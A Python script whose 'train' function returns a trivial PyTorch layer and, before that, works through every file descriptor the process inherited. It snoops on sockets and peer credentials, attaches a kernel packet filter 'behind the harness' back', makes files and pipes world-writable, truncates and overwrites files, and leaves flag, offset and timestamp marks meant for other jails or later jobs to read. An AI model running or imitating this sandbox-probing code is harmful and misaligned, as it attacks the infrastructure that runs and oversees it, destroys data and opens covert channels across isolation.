# What did my ancestors leave open? Try everything on every descriptor that I was born with.
import ctypes
import fcntl
import mmap
import os
import socket
import stat
import struct

import torch

SO_PASSCRED, SO_PEERSEC, SO_ATTACH_FILTER, SO_PEERGROUPS = 16, 31, 26, 59


def attempt(what, action):
    try:
        print("DONE", what, action())
    except (OSError, ValueError) as error:
        print("REFUSED", what, error)


def something(data):
    """Nothing to read is no success."""
    if not data:
        raise OSError("nothing there")
    return data[:40]


def train(lab):
    born_with = [int(name) for name in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{name}")]
    for number in born_with:
        facts = os.fstat(number)
        link = os.readlink(f"/proc/self/fd/{number}")
        print(f"descriptor {number}: {link}")
        if stat.S_ISSOCK(facts.st_mode):
            try_socket(number)
        elif stat.S_ISDIR(facts.st_mode):
            attempt(f"change into {number}", lambda: os.fchdir(number))
        elif stat.S_ISFIFO(facts.st_mode):
            try_pipe(number)
        elif link == "/dev/null":
            attempt("read input", lambda: something(os.read(number, 40)))
            attempt("a mark that the next job would see", lambda: earlier_mark(number))
        else:
            try_file(number, facts)
    return torch.nn.Linear(4, 3)


def try_socket(number):
    """Not written to: what is forged there is another attack's."""
    with socket.socket(fileno=os.dup(number)) as ours:
        for what, flags in (("next frame", socket.MSG_PEEK), ("urgent data", socket.MSG_OOB), ("errors", socket.MSG_ERRQUEUE)):
            attempt(f"peek at the {what}", lambda: something(ours.recv(65536, flags | socket.MSG_DONTWAIT)))
        attempt("descriptors under way", lambda: something(ours.recvmsg(1, 4096, socket.MSG_PEEK | socket.MSG_DONTWAIT)[1]))
        attempt("name of the other end", lambda: something(ours.getpeername()))
        attempt("groups of the other end", lambda: something(ours.getsockopt(socket.SOL_SOCKET, SO_PEERGROUPS, 64)))
        attempt("label of the other end", lambda: something(ours.getsockopt(socket.SOL_SOCKET, SO_PEERSEC, 64)))
        # A program in the kernel, and the length of what passes it, behind the harness' back.
        program = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0xFFFFFFFF))
        filtered = struct.pack("HxxxxxxQ", 1, ctypes.addressof(program))
        attempt("a packet filter", lambda: ours.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, filtered))
        attempt("force a huge buffer", lambda: ours.setsockopt(socket.SOL_SOCKET, 33, 1 << 28))
    attempt("open the socket anew", lambda: os.open(f"/proc/self/fd/{number}", os.O_RDWR))
    attempt("become its owner", lambda: fcntl.fcntl(number, fcntl.F_SETOWN, -1))


def try_pipe(number):
    attempt(f"read from pipe {number}", lambda: os.read(number, 1))
    attempt(f"open pipe {number} for reading", lambda: os.open(f"/proc/self/fd/{number}", os.O_RDONLY | os.O_NONBLOCK))
    attempt(f"take pipe {number}", lambda: os.fchmod(number, 0o666))
    attempt(f"be told of pipe {number}", lambda: fcntl.fcntl(number, fcntl.F_SETOWN, -1))


def earlier_mark(number):
    """Flags belong to the open file, which all jails of a zygote would share; nobody opens it for appending."""
    flags = fcntl.fcntl(number, fcntl.F_GETFL)
    fcntl.fcntl(number, fcntl.F_SETFL, flags | os.O_APPEND | os.O_NONBLOCK)
    if not flags & os.O_APPEND:
        raise OSError("there was none")
    return hex(flags)


def rewrite(path):
    with open(path, "r+b", buffering=0) as stream:
        return stream.write(b"x")


def place_for_all(number):
    """A handle for reading alone was opened for me; one for both is the worker's own, which others get too."""
    if fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY:
        raise OSError("it is my own handle")
    return os.lseek(number, 61, os.SEEK_SET)


def try_file(number, facts):
    attempt(f"write to {number}", lambda: os.pwrite(number, b"x", 0))
    attempt(f"cut {number}", lambda: os.ftruncate(number, 0))
    attempt(f"stretch {number}", lambda: os.ftruncate(number, facts.st_size + 1))
    attempt(f"map {number} shared", lambda: mmap.mmap(number, 1, mmap.MAP_SHARED, mmap.PROT_WRITE | mmap.PROT_READ))
    attempt(f"open {number} anew", lambda: rewrite(f"/proc/self/fd/{number}"))
    attempt(f"seal {number}", lambda: fcntl.fcntl(number, fcntl.F_ADD_SEALS, fcntl.F_SEAL_WRITE))
    attempt(f"take {number}", lambda: os.fchmod(number, 0o777))
    # The place belongs to the open file, the time to its inode: whoever gets the same data reads them.
    attempt(f"leave a place in {number}", lambda: place_for_all(number))
    attempt(f"leave a time in {number}", lambda: os.utime(number))
